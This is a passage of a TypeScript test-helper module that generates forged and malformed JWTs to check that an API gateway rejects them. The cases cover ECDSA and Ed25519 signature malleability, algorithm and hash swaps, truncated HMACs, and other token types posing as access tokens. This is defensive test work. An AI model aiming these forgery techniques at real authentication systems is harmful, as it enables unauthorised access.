      withSignature('r and s exchanged', Buffer.concat([s, r])), withSignature('r zero', Buffer.concat([zero, s])), withSignature('s zero', Buffer.concat([r, zero])), withSignature('r the order', Buffer.concat([order, s])), withSignature('s the order', Buffer.concat([r, order])), withSignature('both the order', Buffer.concat([order, order])),
      withSignature('r plus the order', Buffer.concat([plus(r, order), s])), withSignature('s plus the order', Buffer.concat([r, plus(s, order)])),
      withSignature('as DER', sign(`sha${pen.algorithm.slice(2)}`, Buffer.from(input), key)), withSignature('as DER, cut to length', sign(`sha${pen.algorithm.slice(2)}`, Buffer.from(input), key).subarray(0, bytes.length)),
      withSignature('over another hash', sign(pen.algorithm === 'ES256' ? 'sha384' : 'sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' })), withSignature('over SHA-1', sign('sha1', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' }))
    )
  }
  if (shape.kind === 'okp') {
    // RFC 8032 §5.1.7: s must be below the order L; with s + L the equation holds as well.
    const L = 2n ** 252n + 27742317777372353535851937790883648493n
    for (const times of [1n, 2n, 3n]) cases.push(withSignature(`s + ${times}L`, Buffer.concat([bytes.subarray(0, 32), littleEndian((fromLittleEndian(bytes.subarray(32)) + times * L) % 2n ** 256n)])))
    const identityPoint = Buffer.concat([Buffer.of(1), Buffer.alloc(31)])
    cases.push(withSignature('R the neutral point, s zero', Buffer.concat([identityPoint, Buffer.alloc(32)])), withSignature('halves exchanged', Buffer.concat([bytes.subarray(32), bytes.subarray(0, 32)])))
  }
  if (shape.kind === 'rsa') {
    const other = pen.algorithm.startsWith('PS') ? 'RS' : 'PS'
    cases.push(
      withSignature('the other padding', signature({ algorithm: `${other}256`, key: pen.key }, input)), withSignature('SHA-1', createSign('sha1').update(input).sign(createPrivateKey(pen.key))),
      withSignature('another hash', signature({ algorithm: pen.algorithm.endsWith('512') ? 'RS256' : 'RS512', key: pen.key }, input))
    )
  }
  if (shape.kind === 'hmac') {
    cases.push(withSignature('the first half', bytes.subarray(0, bytes.length / 2)), withSignature('the first byte', bytes.subarray(0, 1)), withSignature('another hash, cut to length', createHmac(pen.algorithm === 'HS512' ? 'sha384' : 'sha512', pen.key).update(input).digest().subarray(0, bytes.length)))
  }
  return cases
}

/** What else goes about under the name of a token: id tokens, refresh tokens, assertions, proofs. */
export function tokensOfAnotherKind ({ pen, claims, nowSeconds }: Target): TwistedToken[] {
  const idToken = { iss: claims['iss'], sub: claims['sub'], aud: claims['aud'], exp: claims['exp'], iat: claims['iat'], nonce: 'n', at_hash: 'h', auth_time: nowSeconds, azp: 'app' }
  const { sid: _, ...withoutSession } = claims
  return [
    invalid('an id token', forge(pen, { ...goodHeader(pen), typ: 'JWT' }, idToken)),
    invalid('an id token without typ', forge(pen, { alg: pen.algorithm, kid: pen.kid }, idToken)),
    invalid('an id token in the dress of an access token', forge(pen, goodHeader(pen), idToken)),
    invalid('a logout token', forge(pen, { ...goodHeader(pen), typ: 'logout+jwt' }, { ...claims, events: { 'http://schemas.openid.net/event/backchannel-logout': {} } })),
    invalid('a proof of possession', forge(pen, { ...goodHeader(pen), typ: 'dpop+jwt' }, { htm: 'GET', htu: 'https://gateway.test/', iat: claims['iat'], jti: 'x' })),
    invalid('a client assertion', forge(pen, { ...goodHeader(pen), typ: 'JWT' }, { ...withoutSession, iss: 'app', sub: 'app', aud: claims['iss'] })),
    invalid('a token without a session', forge(pen, goodHeader(pen), withoutSession)),
    invalid('an opaque token', Buffer.alloc(32, 7).toString('base64url')),
    invalid('an opaque token with a prefix', `gwr_${Buffer.alloc(32, 7).toString('base64url')}`),
    invalid('an opaque token with dots', `${Buffer.alloc(16, 7).toString('base64url')}.${Buffer.alloc(32, 7).toString('base64url')}.${Buffer.alloc(32, 7).toString('base64url')}`),
    invalid('a user name and password', Buffer.from('user-1:password').toString('base64')),
    invalid('a PASETO', `v4.public.${segment(claims)}`),
    invalid('a macaroon', 'MDAxY2xvY2F0aW9uIGdhdGV3YXkudGVzdA'),
    invalid('a session id', String(claims['sid'])),
    invalid('a subject', String(claims['sub'])),
  ]
}

/**
 * The other signature of ECDSA: (r, n − s) verifies as well as (r, s), and needs no key. Not among the twists, for a key that
 * others sign with too must take both.
 */
export function otherSpellingOfSignature (token: string, algorithm: Pen['algorithm']): string {
  const shape = shapes[algorithm]
  if (shape.kind !== 'ec') throw new TypeError(algorithm)
  const { header, payload, signature: signed } = partsOf(token)
  const bytes = Buffer.from(signed, 'base64url')
  const half = bytes.length / 2
  const s = BigInt(`0x${curveOrders[shape.curve]}`) - BigInt(`0x${bytes.toString('hex', half)}`)
  const twin = Buffer.concat([bytes.subarray(0, half), Buffer.from(s.toString(16).padStart(half * 2, '0'), 'hex')])
  return `${header}.${payload}.${twin.toString('base64url')}`
}

function invalid (name: string, token: string): TwistedToken {
  return { name, token, code: 'GW_TOKEN_INVALID' }
}

function show (value: unknown): string {
  return (JSON.stringify(value) ?? String(value)).slice(0, 60)
}

function partsOf (token: string): { header: string, payload: string, signature: string } {
  const [header = '', payload = '', signature = ''] = token.split('.')
  return { header, payload, signature }
}

function hmac (algorithm: 'HS256' | 'HS384' | 'HS512', secret: string | Buffer, input: string): string {
  return createHmac(`sha${algorithm.slice(2)}`, secret).update(input).digest('base64url')
}

function macOf (header: Readonly<Record<string, unknown>>, algorithm: 'HS256' | 'HS384' | 'HS512', secret: string | Buffer, claims: Target['claims']): string {
  const input = `${segment(header)}.${segment(claims)}`
  return `${input}.${hmac(algorithm, secret, input)}`
}

/** A key of the same algorithm that the gateway does not know, under the name of one that it does. */
export function otherPen (pen: Pen): Pen {
  if (isHmac(pen.algorithm)) return { ...pen, key: 'another secret that is long enough for any of the three hashes!!' }
  const shape = shapes[pen.algorithm]
  const { privateKey } = shape.kind === 'rsa'
    ? generateKeyPairSync('rsa', { modulusLength: 2048 })
    : shape.kind === 'ec' ? generateKeyPairSync('ec', { namedCurve: shape.curve }) : generateKeyPairSync('ed25519')
  return { ...pen, key: String(privateKey.export({ type: 'pkcs8', format: 'pem' })) }
}

function randomSignature (pen: Pen): string {
  return Buffer.alloc(signature(pen, 'x').length, 0x5a).toString('base64url')
}

/** Spaces behind, as JSON allows, until the last character has bits to spare. */
function withSpareBits (text: string): string {
  const bytes = Buffer.byteLength(text)
  return segment(bytes % 3 === 0 ? `${text} ` : text)
}

/** Every other last character that decodes to the same bytes. */
function trailingBitTwins (text: string): string[] {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  const bytes = Buffer.from(text, 'base64url')
  return [...alphabet].map((last) => text.slice(0, -1) + last).filter((twin) => twin !== text && Buffer.from(twin, 'base64url').equals(bytes))
}

/** Puts bytes into the first text value of the JSON. */
function withBytes (text: string, bytes: readonly number[]): Buffer {
  const at = text.indexOf(':"') + 2
  return Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from(bytes), Buffer.from(text.slice(at))])
}

function flip (bytes: Buffer, place: number, bit: number): Buffer {
  const changed = Buffer.from(bytes)
  changed[place] = (changed[place] ?? 0) ^ (1 << bit)
  return changed
}

function plus (number: Buffer, order: Buffer): Buffer {
  const sum = (BigInt(`0x${number.toString('hex')}`) + BigInt(`0x${order.toString('hex')}`)) % 2n ** BigInt(number.length * 8)
  return Buffer.from(sum.toString(16).padStart(number.length * 2, '0'), 'hex')
}

function fromLittleEndian (bytes: Buffer): bigint {
  return BigInt(`0x${Buffer.from(bytes).reverse().toString('hex')}`)
}

function littleEndian (number: bigint): Buffer {
  return Buffer.from(number.toString(16).padStart(64, '0'), 'hex').reverse()
}
